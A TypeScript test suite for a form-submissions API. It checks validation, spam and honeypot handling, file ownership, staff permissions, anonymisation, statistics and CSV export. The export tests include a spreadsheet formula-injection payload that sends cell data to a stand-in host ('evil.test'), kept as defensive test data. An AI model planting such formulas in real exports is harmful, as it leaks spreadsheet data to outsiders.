// Submissions: what may be sent to which form, how the staff read it by its version, pass it on, count it and export it.
import { randomUUID } from 'node:crypto'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Output } from '#shared/api/endpoint.ts'
import type { Problem } from '#shared/errors/app-error.ts'
import type { submissions } from '#shared/features/forms/submissions-contract.ts'
import { type TestApp, testApp } from '#tests/support/app.ts'
import { aForm } from '#tests/support/forms.ts'
import { jpeg } from '#tests/support/make-files.ts'
import { anOpenJob, jobForm, openMarket } from '#tests/support/market.ts'
import { aUser, type SignedIn, signIn, signInAs } from '#tests/support/people.ts'
import { contactFields, definitionOf, openingFor, sendAnswers } from '#tests/support/submissions.ts'
import { upload } from '#tests/support/uploads.ts'

type List = Output<(typeof submissions)['GET /submissions/forms/{form}']>
type Detail = Output<(typeof submissions)['GET /submissions/{submission}']>
type Summary = Output<(typeof submissions)['GET /submissions/forms/{form}/summary']>
type Offer = Output<(typeof submissions)['GET /forms/{form}/offer']>

let app: TestApp
let staff: SignedIn
let client: SignedIn
beforeAll(async () => {
  app = await testApp()
  staff = await signIn(app.platform, 'superAdmin')
  client = await signIn(app.platform, 'consumer')
})
afterAll(() => app.close())

const db = () => app.platform.database.db

/** A published contact form of its own; answers its address. */
async function aContactForm(settings: object = {}, fields: readonly object[] = contactFields): Promise<string> {
  const slug = `contact-${randomUUID()}`
  await aForm(db(), { slug, kind: 'contact', definition: definitionOf(fields), settings })
  return slug
}

async function publish(slug: string, version: number, fields: readonly object[]): Promise<void> {
  const form = await db().selectFrom('forms').select('id').where('slug', '=', slug).executeTakeFirstOrThrow()
  const facts = { form_id: form.id, definition: JSON.stringify(definitionOf(fields)), published_at: new Date() }
  await db()
    .insertInto('form_versions')
    .values({ id: randomUUID(), version, ...facts })
    .execute()
  await db().updateTable('forms').set({ published_version: version }).where('id', '=', form.id).execute()
}

const rowsOf = (slug: string) =>
  db()
    .selectFrom('form_submissions')
    .innerJoin('forms', 'forms.id', 'form_submissions.form_id')
    .selectAll('form_submissions')
    .where('forms.slug', '=', slug)
    .orderBy('form_submissions.created_at')
    .execute()

async function onlyRow(slug: string) {
  const [row] = await rowsOf(slug)
  if (!row) throw new Error('Nothing was kept.')
  return row
}

const said = ({ status, body }: { status: number; body: Problem }) => [status, body.code]
const sara = { name: 'Sara' }

const listOf = async (slug: string, query = '', token = staff.token) =>
  (await app.call<List>(`GET /submissions/forms/${slug}${query}`, { token })).body
const detailOf = async (id: string) => (await app.call<Detail>(`GET /submissions/${id}`, { token: staff.token })).body

async function aSubmission(slug: string, answers: object = sara): Promise<string> {
  const reply = await sendAnswers(app, slug, answers)
  if (reply.status !== 201) throw new Error(JSON.stringify(reply.body))
  return (await rowsOf(slug)).at(-1)?.id ?? ''
}

describe('sending', () => {
  it('keeps what a visitor answers, with the version, the language and the page it came from', async () => {
    const slug = await aContactForm()
    const key = randomUUID()
    const reply = await sendAnswers(
      app,
      slug,
      { name: 'سارة', about: 'job', rooms: 3 },
      { body: { sourcePage: '/about-us', anonymousKey: key }, headers: { 'accept-language': 'ar' } },
    )
    expect(reply.status).toBe(201)
    expect(await onlyRow(slug)).toMatchObject({
      version: 1,
      answers: { name: 'سارة', about: 'job', rooms: 3 },
      language: 'ar',
      user_id: null,
      anonymous_key: key,
      source_page: '/about-us',
      status: 'new',
    })
  })

  it('names the account of who is signed in, and not the browser', async () => {
    const slug = await aContactForm()
    await sendAnswers(app, slug, sara, { token: client.token })
    expect(await onlyRow(slug)).toMatchObject({ user_id: client.id, anonymous_key: null })
  })

  it('drops what the version does not ask, and says what is wrong with the rest', async () => {
    const slug = await aContactForm()
    const stuffed = { ...sara, unknown: { deep: [1] }, constructor: 'x', __proto__x: 'y' }
    expect((await sendAnswers(app, slug, stuffed)).status).toBe(201)
    expect((await onlyRow(slug)).answers).toEqual(sara)
    const wrong = await sendAnswers(app, slug, { email: 'no', about: 'else', mark: 9, rooms: { deep: true } })
    expect(wrong.status).toBe(400)
    const first = await sendAnswers(app, slug, { name: { first: 'S' } })
    expect(first.body.errors?.map(({ path, code }) => [path, code])).toEqual([['answers/name', 'wrong-type']])
    const several = await sendAnswers(app, slug, { email: 'no', about: 'else', mark: 9 })
    expect(several.body.errors?.map(({ path, code }) => [path, code])).toEqual([
      ['answers/name', 'required'],
      ['answers/email', 'not-an-email'],
      ['answers/about', 'not-a-choice'],
      ['answers/mark', 'too-large'],
    ])
  })

  it('takes an older version that somebody began with, and none that is not there', async () => {
    const slug = await aContactForm()
    await publish(slug, 2, [...contactFields, { ...contactFields[0], key: 'more' }])
    expect((await sendAnswers(app, slug, sara)).status).toBe(201)
    const both = { ...sara, more: 'More' }
    expect((await sendAnswers(app, slug, both, { body: { version: 2 } })).status).toBe(201)
    expect((await rowsOf(slug)).map(({ version, answers }) => [version, answers])).toEqual([
      [1, sara],
      [2, both],
    ])
    for (const version of [3, 99_999])
      expect((await sendAnswers(app, slug, sara, { body: { version } })).body.errors?.[0]?.path).toBe('version')
  })

  it.each([
    ['paused', 409, 'form.closed'],
    ['draft', 404, 'form.not-found'],
    ['archived', 404, 'form.not-found'],
  ] as const)('refuses a form that is %s', async (status, code, error) => {
    const slug = await aContactForm()
    await db().updateTable('forms').set({ status }).where('slug', '=', slug).execute()
    expect(said(await sendAnswers(app, slug, sara))).toEqual([code, error])
    const offer = await app.call<Offer & Problem>(`GET /forms/${slug}/offer`)
    expect(status === 'paused' ? offer.body.state : offer.body.code).toBe(status === 'paused' ? 'paused' : error)
  })

  it('keeps to every setting: signed in, once, until, at most', async () => {
    const members = await aContactForm({ loginRequired: true })
    expect(said(await sendAnswers(app, members, sara))).toEqual([401, 'session.required'])
    expect((await sendAnswers(app, members, sara, { token: client.token })).status).toBe(201)

    const once = await aContactForm({ onePerUser: true })
    const key = randomUUID()
    for (const body of [{ anonymousKey: key }, { anonymousKey: randomUUID() }])
      expect((await sendAnswers(app, once, sara, { body })).status).toBe(201)
    expect(said(await sendAnswers(app, once, sara, { body: { anonymousKey: key } }))).toEqual([
      409,
      'form.already-answered',
    ])
    expect((await sendAnswers(app, once, sara, { body: { anonymousKey: null } })).body.errors?.[0]?.path).toBe(
      'anonymousKey',
    )
    expect((await sendAnswers(app, once, sara, { token: client.token })).status).toBe(201)
    expect(said(await sendAnswers(app, once, sara, { token: client.token }))[1]).toBe('form.already-answered')

    const over = await aContactForm({ closesAt: new Date(Date.now() - 1000).toISOString() })
    expect(said(await sendAnswers(app, over, sara))).toEqual([409, 'form.closed'])

    const small = await aContactForm({ max: 2 })
    for (const status of [201, 201, 409]) expect((await sendAnswers(app, small, sara)).status).toBe(status)
    expect((await app.call<Offer>(`GET /forms/${small}/offer`)).body.state).toBe('full')
  })

  it('knows nothing of forms for jobs: those post a job', async () => {
    const slug = `job-${randomUUID()}`
    await aForm(db(), { slug, kind: 'job', definition: definitionOf(contactFields) })
    expect(said(await sendAnswers(app, slug, sara))).toEqual([404, 'form.not-found'])
  })
})

/** How many of the staff were told of the form. */
async function tellings(slug: string): Promise<number> {
  const rows = await db()
    .selectFrom('notifications')
    .select('route_params')
    .where('type', '=', 'form-submitted')
    .execute()
  return rows.filter(row => JSON.stringify(row.route_params).includes(slug)).length
}

describe('machines', () => {
  const spam = async (slug: string) => (await rowsOf(slug)).map(({ status }) => status)

  it.each([
    ['fills the field that nobody sees', () => ({ website: 'https://evil.test' })],
    ['comes without an opening', () => ({ opening: '' })],
    ['forges one', () => ({ opening: `${Date.now().toString(36)}.AAAA` })],
    ['is faster than anybody reads', (slug: string) => ({ opening: openingFor(app, slug, 0) })],
    ['takes the opening of another form', () => ({ opening: openingFor(app, 'another-form') })],
    ['repeats an opening of last month', (slug: string) => ({ opening: openingFor(app, slug, 30 * 86_400) })],
  ])('attack: one that %s hears that all is well, and is kept apart', async (_, body) => {
    const slug = await aContactForm({ max: 1 })
    const reply = await sendAnswers(app, slug, sara, { body: body(slug) })
    expect([reply.status, reply.body]).toEqual([201, { done: true }])
    expect(await spam(slug)).toEqual(['spam'])
    await app.platform.deliverer.deliverAll()
    expect(await tellings(slug)).toBe(0)
    // It takes nobody's place.
    expect((await sendAnswers(app, slug, sara)).status).toBe(201)
    expect((await listOf(slug)).total).toBe(1)
    expect((await listOf(slug, '?status=spam')).total).toBe(1)
  })

  it('does not hurry who is signed in', async () => {
    const slug = await aContactForm()
    await sendAnswers(app, slug, sara, { token: client.token, body: { opening: '' } })
    expect(await spam(slug)).toEqual(['new'])
  })

  it('gives an opening that counts', async () => {
    const slug = await aContactForm()
    const { body } = await app.call<{ opening: string; state: string }>(`POST /forms/${slug}/openings`)
    expect(body).toEqual({ opening: expect.stringMatching(/^\w+\.[\w-]{43}$/), state: 'open' })
  })
})

describe('files', () => {
  const aPaper = async (token: string) =>
    (await upload(app, { token, bytes: await jpeg(40, 30), purpose: 'form', name: 'plan.jpg' })).body.id

  it('belong to the submission, for its sender and the staff alone', async () => {
    const slug = await aContactForm()
    const file = await aPaper(client.token)
    expect((await sendAnswers(app, slug, { ...sara, papers: [file] }, { token: client.token })).status).toBe(201)
    const detail = await detailOf((await onlyRow(slug)).id)
    expect(detail.files.map(({ id, name }) => [id, name])).toEqual([[file, 'plan.jpg']])
    const reader = await anAdmin({ is_read: true })
    const other = await signIn(app.platform, 'consumer')
    const seen = async (token: string) => (await app.call(`GET /files/${file}`, { token })).status
    expect(await Promise.all([staff, reader, client, other].map(({ token }) => seen(token)))).toEqual([
      200, 200, 200, 404,
    ])
  })

  it('attack: a file of somebody else, and one of a visitor', async () => {
    const slug = await aContactForm()
    const other = await signIn(app.platform, 'consumer')
    const file = await aPaper(client.token)
    for (const sender of [{ token: other.token }, {}]) {
      const reply = await sendAnswers(app, slug, { ...sara, papers: [file] }, sender)
      expect(reply.body.errors?.map(({ path, code }) => [path, code])).toEqual([['answers/papers', 'invalid']])
    }
    expect(await rowsOf(slug)).toEqual([])
  })
})

/** An admin with some of the rights on submissions. */
async function anAdmin(rights: { is_read?: boolean; is_write?: boolean; is_update?: boolean; is_delete?: boolean }) {
  const admin = await aUser(app.platform, 'admin')
  await db()
    .insertInto('user_permissions')
    .values({ user_id: admin.id, module: 'form-submissions', ...rights })
    .execute()
  return await signInAs(app.platform, admin)
}

describe('the staff', () => {
  it('hears of it: those whom the settings name, else all who may read', async () => {
    const reader = await anAdmin({ is_read: true })
    const count = async (id: string) =>
      (
        await db()
          .selectFrom('notifications')
          .select('id')
          .where('user_id', '=', id)
          .where('type', '=', 'form-submitted')
          .execute()
      ).length
    await aSubmission(await aContactForm())
    await app.platform.deliverer.deliverAll()
    const before = await count(staff.id)
    expect(await count(reader.id)).toBe(1)
    await aSubmission(await aContactForm({ notify: [reader.id] }))
    await app.platform.deliverer.deliverAll()
    expect([await count(reader.id), await count(staff.id)]).toEqual([2, before])
  })

  it('reads an answer by the version that it was made with, after the form has changed', async () => {
    const slug = await aContactForm()
    const id = await aSubmission(slug, { ...sara, about: 'bill' })
    await publish(slug, 2, [{ key: 'title', type: 'text', label: { en: 'Title', fr: 'T', ar: 'T' } }])
    const detail = await detailOf(id)
    expect(detail.version).toBe(1)
    expect(detail.answers).toEqual({ ...sara, about: 'bill' })
    expect(detail.definition.steps[0]?.fields.map(({ key }) => key)).toEqual(contactFields.map(({ key }) => key))
  })

  it('narrows by state, day, language, version, who sent it, who looks after it, and words', async () => {
    const slug = await aContactForm()
    const first = await aSubmission(slug, { name: 'Driss', email: 'driss@example.test' })
    await sendAnswers(app, slug, { name: 'سارة' }, { token: client.token, headers: { 'accept-language': 'ar' } })
    await publish(slug, 2, contactFields)
    await sendAnswers(app, slug, { name: '100% sure' }, { body: { version: 2 } })
    await app.call(`PUT /submissions/${first}/assignee`, { token: staff.token, body: { assignee: staff.id } })
    const names = async (query: string) =>
      (await listOf(slug, query)).items.map(({ excerpt }) => excerpt.split(' · ')[0])
    const today = new Date().toISOString().slice(0, 10)
    expect(await names('')).toEqual(['100% sure', 'سارة', 'Driss'])
    expect(await names('?sort=oldest')).toEqual(['Driss', 'سارة', '100% sure'])
    expect(await names('?language=ar')).toEqual(['سارة'])
    expect(await names('?version=2')).toEqual(['100% sure'])
    expect(await names('?who=signed-in')).toEqual(['سارة'])
    expect(await names('?who=visitor&version=1')).toEqual(['Driss'])
    expect(await names(`?assignee=${staff.id}`)).toEqual(['Driss'])
    expect(await names('?assignee=nobody')).toEqual(['100% sure', 'سارة'])
    expect(await names('?q=driss@')).toEqual(['Driss'])
    expect(await names(`?q=${encodeURIComponent(client.email)}`)).toEqual(['سارة'])
    expect(await names('?q=%25')).toEqual(['100% sure'])
    // The keys of fields are no words of anybody.
    expect(await names('?q=name')).toEqual([])
    expect(await names(`?from=${today}&to=${today}`)).toHaveLength(3)
    expect(await names('?to=2020-01-01')).toEqual([])
    expect(await names('?pageSize=2&page=2')).toEqual(['Driss'])
  })

  it('takes up, closes, reopens and notes, each move written down', async () => {
    const id = await aSubmission(await aContactForm())
    const move = (name: string, note = '') =>
      app.call<Detail>(`POST /submissions/${id}/moves`, { token: staff.token, body: { move: name, note } })
    expect((await move('take')).body).toMatchObject({ status: 'in_progress', assignee: { id: staff.id } })
    expect((await move('close', 'Answered by phone.')).body.moves).toEqual(['reopen'])
    expect(await move('convert')).toMatchObject({ status: 409, body: { code: 'submission.move-not-allowed' } })
    await move('reopen')
    const body = { text: 'Call again on Monday.' }
    const noted = await app.call<Detail>(`POST /submissions/${id}/notes`, { token: staff.token, body })
    expect(noted.body.notes).toMatchObject([{ author: staff.name, text: 'Call again on Monday.' }])
    expect(noted.body.history.map(({ from, to, by, note }) => [from, to, by, note])).toEqual([
      [null, 'new', null, null],
      ['new', 'in_progress', staff.name, null],
      ['in_progress', 'closed', staff.name, 'Answered by phone.'],
      ['closed', 'in_progress', staff.name, null],
    ])
  })

  it('moves many at once, and says which stayed', async () => {
    const slug = await aContactForm()
    const ids = [await aSubmission(slug), await aSubmission(slug), randomUUID()]
    const body = { submissions: ids, move: 'mark-spam' }
    const first = await app.call<{ moved: string[]; left: number }>('POST /submissions/moves', {
      token: staff.token,
      body,
    })
    expect(first.body).toEqual({ moved: ids.slice(0, 2).toSorted(), left: 1 })
    const again = await app.call<{ moved: string[]; left: number }>('POST /submissions/moves', {
      token: staff.token,
      body,
    })
    expect(again.body).toEqual({ moved: [], left: 3 })
  })

  it('gives it only to somebody who may read it', async () => {
    const id = await aSubmission(await aContactForm())
    const assign = (assignee: string) =>
      app.call<Problem>(`PUT /submissions/${id}/assignee`, { token: staff.token, body: { assignee } })
    const writer = await anAdmin({ is_write: true })
    for (const one of [client.id, writer.id, randomUUID()]) expect((await assign(one)).status).toBe(400)
    expect((await assign((await anAdmin({ is_read: true })).id)).status).toBe(200)
  })

  it('removes what is personal, and the row still counts', async () => {
    const slug = await aContactForm()
    const file = (await upload(app, { token: client.token, bytes: await jpeg(40, 30), purpose: 'form' })).body.id
    await sendAnswers(
      app,
      slug,
      { ...sara, papers: [file] },
      { token: client.token, body: { sourcePage: '/profile/x' } },
    )
    const { id } = await onlyRow(slug)
    await app.call(`POST /submissions/${id}/notes`, { token: staff.token, body: { text: 'Sara called.' } })
    const reply = await app.call<Detail>(`POST /submissions/${id}/anonymise`, { token: staff.token })
    expect(reply.body).toMatchObject({ answers: {}, person: null, sourcePage: '', notes: [], files: [] })
    expect(reply.body.anonymisedAt).not.toBeNull()
    expect((await app.call(`GET /files/${file}`, { token: client.token })).status).toBe(404)
    expect((await listOf(slug)).total).toBe(1)
  })
})

describe('rights', () => {
  it.each([
    ['reads', { is_read: true }, [200, 403, 403, 403]],
    ['notes', { is_write: true }, [403, 201, 403, 403]],
    ['moves', { is_update: true }, [403, 403, 200, 403]],
    ['anonymises', { is_delete: true }, [403, 403, 403, 200]],
    ['does nothing', {}, [403, 403, 403, 403]],
  ])('who %s does no more than that', async (_, rights, expected) => {
    const slug = await aContactForm()
    const id = await aSubmission(slug)
    const { token } = await anAdmin(rights)
    const replies = [
      await app.call(`GET /submissions/${id}`, { token }),
      await app.call(`POST /submissions/${id}/notes`, { token, body: { text: 'Hello.' } }),
      await app.call(`POST /submissions/${id}/moves`, { token, body: { move: 'take' } }),
      await app.call(`POST /submissions/${id}/anonymise`, { token }),
    ]
    expect(replies.map(({ status }) => status)).toEqual(expected)
    for (const path of ['', '/summary', '/export'])
      expect((await app.call(`GET /submissions/forms/${slug}${path}`, { token })).status).toBe(expected[0])
  })

  it('attack: a client holds the module for what they send, and reads nothing with it', async () => {
    const slug = await aContactForm()
    const id = await aSubmission(slug)
    for (const path of [`/submissions/${id}`, `/submissions/forms/${slug}`, `/submissions/forms/${slug}/export`])
      expect((await app.call(`GET ${path}`, { token: client.token })).status).toBe(403)
    const note = await app.call(`POST /submissions/${id}/notes`, { token: client.token, body: { text: 'x' } })
    expect(note.status).toBe(403)
  })
})

const summaryOf = async (slug: string, query = '') =>
  (await app.call<Summary>(`GET /submissions/forms/${slug}/summary${query}`, { token: staff.token })).body

describe('figures', () => {
  it('counts choices, measures numbers, averages marks, shows the newest words; spam is left out', async () => {
    const slug = await aContactForm()
    for (const [at, rooms] of [1, 2, 3, 10].entries())
      await aSubmission(slug, { name: `N${at}`, about: at < 3 ? 'job' : 'bill', mark: at + 2, rooms })
    await sendAnswers(app, slug, { name: 'Bot', rooms: 900, about: 'bill' }, { body: { website: 'x' } })
    const { total, fields } = await summaryOf(slug)
    const field = (key: string) => fields.find(one => one.key === key)
    expect(total).toBe(4)
    expect(field('about')?.choices.map(({ value, count }) => [value, count])).toEqual([
      ['job', 3],
      ['bill', 1],
    ])
    const [rooms] = field('rooms')?.figures ?? []
    expect(rooms).toMatchObject({ count: 4, min: 1, max: 10, median: 2.5, average: 4 })
    expect(rooms?.buckets.map(({ count }) => count)).toEqual([2, 1, 0, 0, 0, 0, 0, 1])
    expect(field('mark')?.figures[0]).toMatchObject({ average: 3.5, count: 4, buckets: [] })
    expect(field('mark')?.choices.map(({ value, count }) => [value, count])).toEqual([
      ['5', 1],
      ['4', 1],
      ['3', 1],
      ['2', 1],
      ['1', 0],
    ])
    expect(field('name')?.newest.map(({ text }) => text)).toEqual(['N3', 'N2', 'N1', 'N0'])
    expect((await summaryOf(slug, '?q=N3')).total).toBe(1)
  })

  it('follows the newest version, and keeps what it no longer asks below', async () => {
    const slug = await aContactForm()
    await aSubmission(slug, { ...sara, about: 'job' })
    const city = { key: 'city', type: 'text', label: { en: 'City', fr: 'Ville', ar: 'مدينة' } }
    await publish(slug, 2, [city, { ...contactFields[0], required: false }])
    const { fields } = await summaryOf(slug)
    expect(fields.map(({ key, removed }) => [key, removed])).toEqual([
      ['city', false],
      ['name', false],
      ['email', true],
      ['about', true],
      ['mark', true],
      ['rooms', true],
      ['papers', true],
    ])
    expect(fields.find(({ key }) => key === 'about')?.choices[0]).toMatchObject({ value: 'job', count: 1 })
  })
})

describe('the export', () => {
  const csvOf = async (slug: string, query = '') => {
    const reply = await app.get(`/api/submissions/forms/${slug}/export${query}`, {
      authorization: `Bearer ${staff.token}`,
    })
    const bytes = Buffer.from(await reply.arrayBuffer())
    return { reply, bytes, lines: bytes.toString('utf8').slice(1).split('\r\n') }
  }

  it('is a file that spreadsheets read: UTF-8 with its mark, one column a field of any version, words for choices', async () => {
    const slug = await aContactForm()
    await aSubmission(slug, { name: 'سارة العمراني', about: 'job', rooms: 3 })
    const city = { key: 'city', type: 'text', label: { en: 'City', fr: 'Ville', ar: 'مدينة' } }
    await publish(slug, 2, [city, contactFields[0] as object])
    await sendAnswers(app, slug, { ...sara, city: 'Fès, "la vieille"' }, { body: { version: 2 } })
    const { reply, bytes, lines } = await csvOf(slug, '?in=fr')
    expect(reply.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(reply.headers.get('content-disposition')).toContain(`attachment; filename="${slug}-`)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(lines[0]).toContain('Envoyée à (UTC),État,Langue,Version')
    expect(lines[0]).toMatch(/,Ville,Name \(fr\),E-mail \(fr\),About \(fr\),Mark \(fr\),Rooms \(fr\),Papers \(fr\)$/)
    expect(lines[1]).toContain('"Fès, ""la vieille""",Sara,,,,,')
    expect(lines[2]).toContain(',سارة العمراني,,A job (fr),,3,')
    expect(lines).toHaveLength(4)
  })

  it('attack: formulas in what people write', async () => {
    const slug = await aContactForm()
    const formula = '=HYPERLINK("https://evil.test?"&A1,"Click")'
    await aSubmission(slug, { name: formula, rooms: -5 })
    const { lines } = await csvOf(slug)
    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.test?""&A1,""Click"")"`)
    expect(lines[1]).toContain(',-5,')
  })

  it('reads every row once over many batches, in the order of the list', async () => {
    const slug = await aContactForm()
    const form = await db().selectFrom('forms').select('id').where('slug', '=', slug).executeTakeFirstOrThrow()
    // Moments within one millisecond, and the same moment twice: neither is skipped nor repeated.
    await sql`
      insert into form_submissions (id, form_id, version, answers, language, status, created_at, updated_at)
      select gen_random_uuid(), ${form.id}, 1, jsonb_build_object('name', 'N' || n), 'en', 'new', moment, moment
      from (select n, '2026-01-01T00:00:00Z'::timestamptz + (n / 2) * interval '7 microseconds' as moment
        from generate_series(0, 1299) as n) as rows`.execute(db())
    const { lines } = await csvOf(slug)
    const names = lines.slice(1, -1).map(line => /,(N\d+),/.exec(line)?.[1])
    expect(names).toHaveLength(1300)
    expect(new Set(names).size).toBe(1300)
    expect(['N1299', 'N1298']).toContain(names[0])
    expect(['N0', 'N1']).toContain(names.at(-1))
  })
})

it('lists the jobs of a form for jobs in the same way', async () => {
  await openMarket(app)
  const job = await anOpenJob(app, client, staff)
  const list = await listOf('plumbing-job')
  expect(list.items).toMatchObject([{ id: job, job, status: 'converted', person: { id: client.id } }])
  const { fields } = await summaryOf('plumbing-job')
  expect(fields[0]?.choices[0]).toMatchObject({ value: jobForm.answers.kind, count: 1 })
})
